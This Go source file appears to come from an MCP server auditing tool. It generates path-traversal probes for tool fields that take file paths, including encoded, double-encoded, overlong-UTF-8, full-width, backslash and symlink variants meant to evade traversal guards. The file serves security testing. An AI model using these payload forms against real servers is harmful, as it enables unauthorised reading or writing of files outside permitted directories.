package attack

import (
	"encoding/json"
	"maps"
	"path"
	"slices"
	"strings"

	"github.com/mcpaudit/mcpaudit/api/report"
	"github.com/mcpaudit/mcpaudit/runner/inputs"
	"github.com/mcpaudit/mcpaudit/runner/lazyregexp"
)

// pathForms write a path that leads outside. The first two are undisguised; the
// others evade guards against these.
var pathForms = []form{
	leading("as an absolute path", func(_, to string) string { return to }).plainly(),
	leading(`by ".."`, func(_, to string) string { return inputs.Up + to[1:] }).plainly(),
	leading(`by ".." behind the value`, func(honest, to string) string { return strings.TrimSuffix(honest, "/") + "/" + inputs.Up + to[1:] }),
	leading(`by ".." behind the directory of the value`, func(honest, to string) string { return path.Dir(honest) + "/" + inputs.Up + to[1:] }),
	sibling("to a sibling with the same beginning"),
	neighbour,
	near("by a link in the directory", true, func(f field, tail string) string {
		if path.IsAbs(f.core()) {
			return f.dir + "/" + tail
		}
		return tail
	}),
	linked("by a link to the file itself"),
	leading(`by ".." in a list in place of a text`, func(_, to string) string { return inputs.Up + to[1:] }).listed(),
	leading(`by "....//"`, func(_, to string) string { return strings.ReplaceAll(inputs.Up, "../", "....//") + to[1:] }),
	leading(`by "..%2f"`, func(_, to string) string { return strings.ReplaceAll(inputs.Up+to[1:], "/", "%2f") }),
	leading(`by "%2e%2e%2f"`, func(_, to string) string { return encoded.Replace(inputs.Up) + strings.ReplaceAll(to[1:], "/", "%2f") }),
	leading(`by "%252e%252e%252f"`, func(_, to string) string {
		return strings.ReplaceAll(encoded.Replace(inputs.Up)+strings.ReplaceAll(to[1:], "/", "%2f"), "%", "%25")
	}),
	leading(`by "....%2f%2f"`, func(_, to string) string {
		return strings.ReplaceAll(inputs.Up, "../", "....%2f%2f") + strings.ReplaceAll(to[1:], "/", "%2f")
	}),
	leading("as an absolute path with encoded slashes", func(_, to string) string { return strings.ReplaceAll(to, "/", "%2f") }),
	leading(`by "./.."`, func(_, to string) string { return "./" + inputs.Up + to[1:] }),
	leading(`by "..\\"`, func(_, to string) string { return strings.ReplaceAll(inputs.Up+to[1:], "/", `\`) }),
	leading(`by "%2e%2e/"`, func(_, to string) string { return strings.ReplaceAll(inputs.Up, ".", "%2e") + to[1:] }),
	leading(`by "..././"`, func(_, to string) string { return strings.ReplaceAll(inputs.Up, "../", "..././") + to[1:] }),
	leading(`by ".." in full width`, func(_, to string) string {
		return strings.ReplaceAll(inputs.Up, "../", "．．／") + strings.ReplaceAll(to[1:], "/", "／")
	}),
	leading(`by "%c0%ae"`, func(_, to string) string {
		return strings.ReplaceAll(inputs.Up, "../", "%c0%ae%c0%ae%c0%af") + strings.ReplaceAll(to[1:], "/", "%c0%af")
	}),
	leading(`by "..\\" behind a directory`, func(_, to string) string { return `a\` + strings.ReplaceAll(inputs.Up+to[1:], "/", `\`) }),
	leading(`by ".. /"`, func(_, to string) string { return strings.ReplaceAll(inputs.Up, "../", ".. /") + to[1:] }),
	leading(`by "%2e%2e/" behind the directory of the value`, func(honest, to string) string {
		return path.Dir(honest) + "/" + strings.ReplaceAll(inputs.Up, ".", "%2e") + to[1:]
	}),
	leading(`by ".." in references of HTML`, func(_, to string) string { return strings.ReplaceAll(inputs.Up, "../", "&#46;&#46;&#47;") + to[1:] }),
	leading(`by ".." in escapes of Unicode`, func(_, to string) string {
		return strings.ReplaceAll(inputs.Up, "../", `\u002e\u002e\u002f`) + strings.ReplaceAll(to[1:], "/", `\u002f`)
	}),
	leading(`by ".." before the value as a fragment`, func(honest, to string) string { return inputs.Up + to[1:] + "#" + honest }),
	leading(`by ".." before the value as a query`, func(honest, to string) string { return inputs.Up + to[1:] + "?" + honest }),
	fileURL,
	leading(`below "$HOME"`, func(_, to string) string { return "$HOME/" + strings.TrimPrefix(to, path.Dir(inputs.OutsideDir)+"/") }),
	leading(`below "~"`, func(_, to string) string { return "~/" + strings.TrimPrefix(to, path.Dir(inputs.OutsideDir)+"/") }),
	unmade(leading(`by ".." to a file that is not there`, func(_, to string) string { return inputs.Up + to[1:] })),
	unmade(sibling("to a file that is not there, in a sibling with the same beginning")),
	unmade(neighbour),
	leading("as an absolute path behind a blank", func(_, to string) string { return " " + to }),
	leading("as an absolute path behind a slash", func(_, to string) string { return "/" + to }),
}

// encoded writes dots and slashes as URLs may.
var encoded = strings.NewReplacer(".", "%2e", "/", "%2f")

// leading is a form that writes the path of a file outside.
func leading(name string, write func(honest, to string) string) form {
	return form{name: name, write: func(f field, _ inputs.Mark, number int) string {
		return f.before + write(f.core(), f.outside(number)) + f.behind
	}}
}

// near is a form that writes the path of a file in or beside the directory of the value,
// with the tail of the path of a file outside.
func near(name string, link bool, write func(f field, tail string) string) form {
	return form{name: name, near: true, link: link, write: func(f field, _ inputs.Mark, number int) string {
		return f.before + write(f, strings.TrimPrefix(f.outside(number), path.Dir(inputs.OutsideDir)+"/")) + f.behind
	}}
}

// outside returns the target of an attempt: a file, or its directory.
func (f field) outside(number int) string {
	dir := path.Dir(inputs.OutsideFile(number, ""))
	switch {
	case f.unmade && f.directory:
		return dir + "/new"
	case f.unmade:
		return dir + "/new" + f.ending
	case f.directory:
		return dir
	}
	return inputs.OutsideFile(number, f.ending)
}

func sibling(name string) form {
	f := near(name, false, func(f field, tail string) string { return beside(f, path.Base(f.dir)+"-"+tail) })
	f.sibling = true
	return f
}

// neighbour leads to a directory of another name beside that of the value. If it is accessible, the tool's bound is
// the directory above.
var neighbour = func() form {
	f := near("to a directory beside it", false, func(f field, tail string) string {
		return beside(f, strings.Replace(tail, inputs.LinkName, path.Base(inputs.Neighbour(f.dir)), 1))
	})
	f.neighbour = true
	return f
}()

// beside returns a path beside the directory of the value.
func beside(f field, tail string) string {
	if path.IsAbs(f.core()) {
		return path.Join(path.Dir(f.dir), tail)
	}
	return "../" + tail
}

// unmade changes a form to lead to a file that does not exist: tools that move or copy refuse to replace one.
func unmade(of form) form {
	write := of.write
	of.write = func(f field, m inputs.Mark, number int) string {
		f.unmade = true
		return write(f, m, number)
	}
	return of
}

// linked uses a link to the file itself in the directory of the value, for guards that resolve only the directory.
func linked(name string) form {
	return form{name: name, near: true, link: true, write: func(f field, _ inputs.Mark, number int) string {
		to := inputs.FileLink(number, f.ending)
		if path.IsAbs(f.core()) {
			to = f.dir + "/" + to
		}
		return f.before + to + f.behind
	}}
}

func (f form) plainly() form { f.control = true; return f }

func (f form) listed() form { f.inList = true; return f }

// maxPaths bounds the attempts on one target with files of their own, besides those of other lists.
const maxPaths = inputs.MaxOutside - maxCode - maxEgressFields - maxEnclosed - maxMarkup - maxDispatched*maxFunctions

// led reports whether a form fits a place.
func (f field) led(way form) bool {
	return (f.dir != "" || !way.near) && (way.control || !f.next) && (f.onlyText || !way.inList)
}

// pathSteps returns the attempts of family Path.
func pathSteps(fields []field, seen Seen) (all []step) {
	for _, form := range pathForms {
		for _, field := range fields {
			if len(all) < maxPaths && field.leads(seen) && field.led(form) {
				all = append(all, step{family: Path, form: form, field: field})
			}
		}
	}
	all = append(all, namedSteps(fields, seen)...)
	for _, field := range fields { // a server that opens URLs may open those of files, too
		if len(all) < maxPaths && field.text && !field.leads(seen) && field.addresses() {
			all = append(all, step{family: Path, form: fileURL, field: field})
		}
	}
	return all
}

// nameForms are for objects whose keys are names of files.
var nameForms = []form{
	leading("as a key, as an absolute path", func(_, to string) string { return to }).keyed().plainly(),
	leading(`as a key, by ".."`, func(_, to string) string { return inputs.Up + to[1:] }).keyed().plainly(),
	leading(`as a key, by "....//"`, func(_, to string) string { return strings.ReplaceAll(inputs.Up, "../", "....//") + to[1:] }).keyed(),
	leading(`as a key, by "..%2f"`, func(_, to string) string { return strings.ReplaceAll(inputs.Up+to[1:], "/", "%2f") }).keyed(),
}

// namedSteps returns the attempts on the keys of an object that takes any, where one was the name of a file that was accessed.
func namedSteps(fields []field, seen Seen) (all []step) {
	for _, f := range keys(fields) {
		name, _ := f.steps[len(f.steps)-1].(string)
		if !slices.ContainsFunc(seen.Files, func(file string) bool { return strings.HasSuffix(file, "/"+name) }) {
			continue
		}
		if f.directory, f.ending = false, path.Ext(name); !slices.Contains([]string{".txt", ".md", ".json"}, f.ending) {
			f.ending = ".txt"
		}
		all = append(all, formed(Path, nameForms, []field{f})...)
	}
	return all
}

// fileURL is the form for fields of URLs.
var fileURL = leading("as a URL of a file", func(_, to string) string { return "file://" + to })

// addresses reports whether a field takes a URL.
func (f field) addresses() bool {
	return f.variable == "" && (strings.HasPrefix(f.value, "http") || forURL.MatchString(f.name))
}

// bare matches values that may be the name of a file.
var bare = lazyregexp.New(`^[\w\pL\pM.@+ -]{1,128}$`)

// relative matches those that may be a relative path.
var relative = lazyregexp.New(`^[\w\pL\pM.@+ '(),&!-]{1,100}(?:/[\w\pL\pM.@+ '(),&!-]{1,100}){0,8}$`)

// leads reports whether a value may become a path: by the name of the field, or because a file
// with the value in its path was accessed.
func (f field) leads(seen Seen) bool {
	last := f.name[strings.LastIndexByte(f.name, '.')+1:]
	name, _, _ := strings.Cut(last, "[")
	switch {
	case f.number:
		return numbered(f.value, seen.Files)
	case !f.text && !f.choice:
		return false
	case f.before != "" && !f.item, inputs.IsPath(name), path.IsAbs(f.core()) && slices.Contains(seen.Files, f.core()):
		return true
	}
	if wild.MatchString(f.core()) {
		return f.dir != ""
	}
	return relative.MatchString(f.core()) && slices.ContainsFunc(seen.Files, func(file string) bool {
		return strings.Contains(folded(file), folded("/"+f.core())) || PartOf(f.core(), file)
	})
}

// folded writes a name as servers write titles that become names of files: in small letters, with hyphens.
func folded(name string) string { return strings.ToLower(hyphens.Replace(name)) }

var hyphens = strings.NewReplacer(" ", "-", "_", "-")

// PartOf reports whether a value is a word in the name of a file, such as its ending.
func PartOf(value, file string) bool {
	return len(value) > 1 && slices.Contains(strings.FieldsFunc(path.Base(file), func(r rune) bool { return strings.ContainsRune("._-", r) }), value)
}

// numbered reports whether a number occurs in the name of a file that was accessed.
func numbered(value string, files []string) bool {
	return value != "" && slices.ContainsFunc(files, func(file string) bool {
		return slices.Contains(integers.FindAllString(path.Base(file), maxFields), value)
	})
}

var integers = lazyregexp.New(`\d+`)

// frame sets the unchanged beginning of a value, and the target of attempts on it.
func (f field) frame(seen Seen, dirs []string) field {
	if f.variable == "" && strings.HasPrefix(f.value, "file://") {
		f.before = "file://"
	}
	core := f.core()
	if f.ending = path.Ext(core); !fileEnding.MatchString(f.ending) {
		f.ending = ".txt"
	}
	f.planted = "note" + f.ending
	if name, ok := within(core, seen.Files); ok {
		f.directory, f.planted = true, name
	} else {
		f.directory = listed(core, seen.Listed)
	}
	for _, file := range seen.Files {
		if ending := path.Ext(file); core != "" && ending != "" && strings.HasSuffix(folded(file), folded("/"+core+ending)) && !strings.HasSuffix(file, "/"+core) {
			f.directory, f.ending, f.planted = false, "", "note"+ending // the server adds it
			break
		}
	}
	f.dir = f.base(seen, dirs)
	return f
}

var (
	// fileEnding matches the ending of a file's name.
	fileEnding = lazyregexp.New(`^\.[A-Za-z0-9]{1,8}$`)
	// inDir matches the names of files in a directory, except hidden ones.
	inDir = lazyregexp.New(`^[\w\pL\pM][\w\pL\pM.-]{0,63}(?:/[\w\pL\pM][\w\pL\pM.-]{0,63}){0,2}$`)
)

// within returns the name of a file that was accessed in the directory that a value names; false for none.
func within(core string, files []string) (name string, ok bool) {
	if core == "" || !bare.MatchString(path.Base(core)) {
		return "", false
	}
	for _, file := range files {
		if _, behind, found := strings.Cut(file, path.Join("/", core)+"/"); found && inDir.MatchString(behind) && name == "" {
			name = behind
		}
	}
	return name, name != ""
}

// listed reports whether a value names a directory that was listed.
func listed(core string, dirs []string) bool {
	return core != "" && slices.ContainsFunc(dirs, func(dir string) bool { return dir == path.Clean(core) || strings.HasSuffix(dir, path.Join("/", core)) })
}

// base returns the directory that an honest value was joined to, or one of some directories that contain it; "" for none.
func (f field) base(seen Seen, dirs []string) string {
	core := f.core()
	if core == "" {
		return ""
	}
	if f.encloses() {
		core = inputs.Packed
	}
	for _, dir := range dirs {
		if strings.HasPrefix(core, dir+"/") || core == dir {
			return dir
		}
	}
	for _, file := range seen.Files {
		for _, name := range []string{file, strings.TrimSuffix(file, path.Ext(file))} {
			if dir := JoinedTo(core, name); dir != "" {
				return dir
			}
		}
	}
	return ""
}

// wild matches glob patterns.
var wild = lazyregexp.New(`^[\w\pL\pM.@+*?/ -]{0,100}[*?][\w\pL\pM.@+*?/ -]{0,100}$`)

// JoinedTo returns the directory that a relative path was joined to, or that a glob pattern was resolved in, given
// the file that was opened; "" if they do not match.
func JoinedTo(value, file string) string {
	dir, joined := strings.CutSuffix(file, "/"+value)
	if !joined && wild.MatchString(value) {
		at := len(file)
		for range strings.Count(value, "/") + 1 {
			at = max(0, strings.LastIndexByte(file[:at], '/'))
		}
		dir = file[:at]
		joined, _ = path.Match(value, strings.TrimPrefix(file[at:], "/")) // no pattern, no match
	}
	if !joined || path.IsAbs(value) {
		return ""
	}
	return dir
}

// Bases returns a few directories that the values of honest calls of tools were joined to, or lie in.
func (p Plan) Bases(honest map[string]json.RawMessage) []string {
	return p.collect(honest, maxBases, func(f field, _ Seen) string { return f.dir })
}

// Outside returns a few names of files that attempts on honest calls of tools lead to, for inputs.OutsideFilesOf.
func (p Plan) Outside(honest map[string]json.RawMessage) []string {
	return p.collect(honest, maxOutside, func(f field, seen Seen) string {
		if !f.leads(seen) || f.planted == "note.txt" {
			return ""
		}
		return f.planted
	})
}

// collect returns at most so many distinct texts of the fields of honest calls of tools.
func (p Plan) collect(honest map[string]json.RawMessage, most int, of func(field, Seen) string) (all []string) {
	for _, name := range slices.Sorted(maps.Keys(honest)) {
		tool := report.Capability{Kind: report.CapabilityTool, Name: name}
		for _, f := range fieldsOf(Target{Of: tool, Honest: honest[name]}, p.Seen[tool], p.Dirs) {
			if text := of(f, p.Seen[tool]); text != "" && !slices.Contains(all, text) && len(all) < most {
				all = append(all, text)
			}
		}
	}
	return all
}

const (
	maxBases   = 4 // directories with a link and a sibling
	maxOutside = 6 // additional names of files outside
)

// core returns the part of the value that attempts replace.
func (f field) core() string { return f.value[len(f.before) : len(f.value)-len(f.behind)] }
